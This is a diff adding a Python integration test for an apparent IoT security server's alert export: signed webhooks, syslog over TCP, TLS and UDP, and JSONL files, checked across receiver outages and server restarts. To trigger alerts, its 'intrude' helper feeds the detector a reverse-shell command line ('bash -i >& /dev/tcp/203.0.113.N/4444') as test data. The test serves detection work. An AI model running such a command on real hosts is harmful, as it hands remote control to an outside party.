@@ -1,0 +1,268 @@
+#!/usr/bin/python3
+"""Findings leave the server: a webhook whose signature holds, syslog over TCP and TLS, files; a receiver that is down loses nothing, also
+over a restart of the server; secrets are never shown, changes are on record."""
+
+import hashlib
+import hmac
+import http.server
+import json
+import pathlib
+import re
+import socket
+import ssl
+import tempfile
+import threading
+import time
+
+from harness import PATIENCE, Device, Server, event, main, message, process
+
+
+class Webhook:
+    """An HTTP receiver. `statuses` are its next answers, then 200."""
+
+    def __init__(self, port=0):
+        outer = self
+        self.requests, self.statuses = [], []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_POST(self):
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                outer.requests.append((dict(self.headers), body))
+                self.send_response(outer.statuses.pop(0) if outer.statuses else 200)
+                self.end_headers()
+
+            def log_message(self, *_):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+class Syslog:
+    """A TCP receiver of octet-counted frames; takes nothing else."""
+
+    def __init__(self, port=0, tls=None):
+        self.lines, self.wrong = [], []
+        self.socket = socket.create_server(("127.0.0.1", port))
+        self.port = self.socket.getsockname()[1]
+        self.tls = tls
+        threading.Thread(target=self.run, daemon=True).start()
+
+    def run(self):
+        while True:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:
+                return
+            try:
+                if self.tls:
+                    connection = self.tls.wrap_socket(connection, server_side=True)
+                with connection, connection.makefile("rb") as stream:
+                    while True:
+                        length = b""
+                        while (byte := stream.read(1)) not in (b"", b" "):
+                            length += byte
+                        if not byte:
+                            break
+                        self.lines.append(stream.read(int(length)).decode())
+            except Exception as problem:  # the test looks at them
+                self.wrong.append(problem)
+
+    def close(self):
+        self.socket.shutdown(socket.SHUT_RDWR)
+        self.socket.close()
+
+
+def until(condition, seconds=20, say=lambda: ""):
+    deadline = time.monotonic() + seconds * PATIENCE
+    while not condition():
+        assert time.monotonic() < deadline, f"after {seconds} s still not so {say()}"
+        time.sleep(0.05)
+
+
+def intrude(device, number):
+    """A reverse shell, High, told apart by its address; of a user of its own, for repeats of one user's are one alert."""
+    before = len(device.acknowledged)
+    started = process(f"bash -i >& /dev/tcp/203.0.113.{number}/4444 0>&1", user=str(1000 + number))
+    started["UserName"] = f"user{number}"
+    device.send(f"shell {number}", message(event("ProcessCreate", [started])))
+    device.wait_acknowledged(before + 1)
+
+
+def open_port(device):
+    before = len(device.acknowledged)
+    ports = [{"Protocol": "tcp", "LocalPort": "8888", "LocalAddress": "0.0.0.0"}]
+    device.send("ports", message(event("ListeningPorts", ports, category="Periodic")))
+    device.wait_acknowledged(before + 1)
+
+
+def add(server, name, to, *options):
+    return json.loads(server.cli("export", "add", name, "--to", to, "--format", "json", *options))
+
+
+def status(server, name):
+    return json.loads(server.cli("export", "show", name, "--format", "json"))["status"]
+
+
+def shells(texts):
+    return sorted({int(n) for text in texts for n in re.findall(r"203\.0\.113\.(\d+)/4444", text)})
+
+
+def stored(server):
+    """The ids of what the workspace calls High: what must have left, no more and no less."""
+    return sorted(row[0] for row in server.query("SecurityAlert | where AlertSeverity == 'High' | distinct SystemAlertId"))
+
+
+def connected(server, credentials=None):
+    device = Device(server, credentials or server.make_device("gate"))
+    assert device.connect() == 0
+    return device
+
+
+def a_webhook_is_signed_and_loses_nothing():
+    receiver = Webhook()
+    with Server() as server:
+        device = connected(server)
+        made = add(server, "soc", f"http://127.0.0.1:{receiver.port}/hook", "--minimum-severity", "Medium")
+        secret = made["secret"]
+        shown = server.cli("export", "show", "soc", "--format", "json")
+        assert secret not in shown and '"signed": true' in shown, shown
+        server.cli("export", "test", "soc")
+        assert b"Fieldwatch_ExportTest" in receiver.requests.pop()[1]
+
+        receiver.statuses = [500]  # a first failure is tried again
+        intrude(device, 1)
+        def of_shells():  # the hub's own recommendations come as well
+            return [one for one in receiver.requests if b"IoT_ReverseShell" in one[1]]
+        until(lambda: len(of_shells()) == 2 and status(server, "soc")["state"] == "well", say=lambda: receiver.requests)
+        for headers, body in of_shells():
+            said = headers["X-Fieldwatch-Timestamp"].encode() + b"." + body
+            assert headers["X-Fieldwatch-Signature"] == "v1=" + hmac.new(secret.encode(), said, hashlib.sha256).hexdigest()
+            assert abs(int(headers["X-Fieldwatch-Timestamp"]) - time.time()) < 120
+            alert = json.loads(body)
+            assert alert["AlertType"] == "IoT_ReverseShell" and headers["Idempotency-Key"] == alert["SystemAlertId"], alert
+        assert shells([alert["ExtendedProperties"]["CommandLine"]]) == [1]
+        rows = server.query("SecurityAlert | where AlertType == 'IoT_ReverseShell' | distinct SystemAlertId")
+        assert rows == [[alert["SystemAlertId"]]], rows
+
+        # A recommendation, too; and its state is in the id.
+        open_port(device)
+        server.wait_for("SecurityRecommendation | where RecommendationName == 'IoT_OpenPorts' | count", lambda rows: rows[0][0] > 0)
+        until(lambda: any(b"IoT_OpenPorts" in body for _, body in receiver.requests))
+
+        # The receiver goes, findings come, the server restarts: all arrive when it is back.
+        receiver.close()
+        intrude(device, 2)
+        intrude(device, 3)
+        until(lambda: status(server, "soc")["state"] == "failing" and status(server, "soc")["waiting"] >= 2)
+        assert "failing" in server.cli("export", "list")
+        assert server.run("export", "test", "soc").returncode == 1
+        device.close()
+        server.stop()
+        server.start()
+        assert status(server, "soc")["waiting"] >= 2
+        port, seen = receiver.port, receiver.requests
+        receiver = Webhook(port)
+        until(lambda: shells(body.decode() for _, body in receiver.requests) == [2, 3], 60)
+        assert shells(body.decode() for _, body in seen) == [1]
+        until(lambda: status(server, "soc")["waiting"] == 0)
+        assert status(server, "soc")["state"] == "well" and status(server, "soc")["dropped"] == 0
+        sent = sorted({json.loads(body)["SystemAlertId"] for _, body in seen + receiver.requests if b'"AlertSeverity":"High"' in body})
+        assert sent == stored(server), (sent, stored(server))
+        metrics = server.run("query", "AzureActivity | where OperationNameValue startswith 'Fieldwatch/exports' | project OperationNameValue")
+        assert "Fieldwatch/exports/write" in metrics.stdout and "Fieldwatch/exports/test/action" in metrics.stdout, metrics
+        assert secret not in server.cli("query", "AzureActivity | project Properties", "--format", "json")
+        server.cli("export", "remove", "soc")
+        assert server.run("export", "show", "soc").returncode == 1
+    receiver.close()
+
+
+def killed_servers_repeat_but_lose_nothing():
+    receiver = Syslog()
+    with Server() as server:
+        device = connected(server)
+        add(server, "siem", f"tcp://127.0.0.1:{receiver.port}", "--findings", "alerts", "--minimum-severity", "High")
+        for number in range(1, 4):
+            intrude(device, number)
+            time.sleep(0.05 * number)
+            device.close()
+            server.kill()
+            server.start()
+            device = connected(server, device.credentials)
+        server.wait_for("SecurityAlert | where AlertSeverity == 'High' | summarize dcount(SystemAlertId)", lambda rows: rows == [[3]])
+        until(lambda: shells(receiver.lines) == [1, 2, 3], say=lambda: receiver.lines)
+        assert sorted({re.search(r' id="([^"]+)"', line)[1] for line in receiver.lines}) == stored(server), receiver.lines
+        device.close()
+    assert not receiver.wrong, receiver.wrong
+    receiver.close()
+
+
+def syslog_goes_over_tcp_and_tls_and_udp():
+    plain = Syslog()
+    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    datagrams.bind(("127.0.0.1", 0))
+    datagrams.settimeout(20 * PATIENCE)
+    high = ("--minimum-severity", "High")  # a device's first message is an alert too, an informational one
+    with Server() as server:
+        device = connected(server)
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        with tempfile.TemporaryDirectory() as directory:
+            files = certificate(pathlib.Path(directory))
+            context.load_cert_chain(*files)
+            sealed = Syslog(tls=context)
+            add(server, "plain", f"tcp://127.0.0.1:{plain.port}", *high)
+            add(server, "sealed", f"tls://127.0.0.1:{sealed.port}", "--as", "cef", "--ca", files[0], *high)
+            add(server, "stranger", f"tls://127.0.0.1:{sealed.port}", *high)
+            add(server, "datagrams", f"udp://127.0.0.1:{datagrams.getsockname()[1]}", *high)
+        intrude(device, 9)
+        line = datagrams.recv(65536).decode()
+        assert re.match(r"<130>1 \S+Z home fieldwatch - alert \[fieldwatch@32473 id=\"[0-9a-f-]{36}\"", line), line
+        until(lambda: plain.lines and sealed.lines, say=lambda: (plain.lines, sealed.lines, sealed.wrong))
+        assert plain.lines[0] == line, (plain.lines, line)
+        assert " - alert - CEF:0|Fieldwatch|Fieldwatch|" in sealed.lines[0] and "|IoT_ReverseShell|Reverse shells|9|" in sealed.lines[0], sealed.lines
+        until(lambda: "certificate" in status(server, "stranger")["problem"], say=lambda: status(server, "stranger"))
+        assert status(server, "stranger")["delivered"] == 0
+        device.close()
+        sealed.close()
+    plain.close()
+
+
+def certificate(directory):
+    """One of a receiver's own, for 127.0.0.1."""
+    import subprocess
+    files = (directory / "cert.pem", directory / "key.pem")
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=receiver", "-addext",
+                    "subjectAltName=IP:127.0.0.1", "-out", files[0], "-keyout", files[1]], check=True, capture_output=True)
+    return files
+
+
+def files_hold_a_line_each():
+    with Server() as server:
+        device = connected(server)
+        for form in ("json", "ocsf", "stix"):
+            add(server, form, "file", "--as", form, "--minimum-severity", "High")
+        intrude(device, 5)
+        for form, check in (("json", lambda one: one["SystemAlertId"]),
+                            ("ocsf", lambda one: one["class_uid"] == 2004 and one["severity_id"] == 4 and one["device"]["uid"] == "gate"),
+                            ("stix", lambda one: {"sighting", "indicator", "observed-data"} <= {o["type"] for o in one["objects"]})):
+            folder = server.data / "exports" / form
+            until(lambda: list(folder.glob("*.jsonl")) and list(folder.glob("*.jsonl"))[0].read_text())
+            lines = [json.loads(line) for line in next(folder.glob("*.jsonl")).read_text().splitlines()]
+            assert len(lines) == 1 and check(lines[0]), lines
+        # What is wrong is said, and changes nothing.
+        done = server.run("export", "add", "x", "--to", "http://192.0.2.1/")
+        assert done.returncode != 0 and "https" in done.stderr, done
+        done = server.run("export", "add", "json", "--to", "file", "--for-hub", "none")
+        assert done.returncode != 0 and "none" in done.stderr, done
+        assert len(json.loads(server.cli("export", "list", "--format", "json"))["value"]) == 3
+        device.close()
+
+
+if __name__ == "__main__":
+    main(a_webhook_is_signed_and_loses_nothing, killed_servers_repeat_but_lose_nothing, syslog_goes_over_tcp_and_tls_and_udp,
+         files_hold_a_line_each)
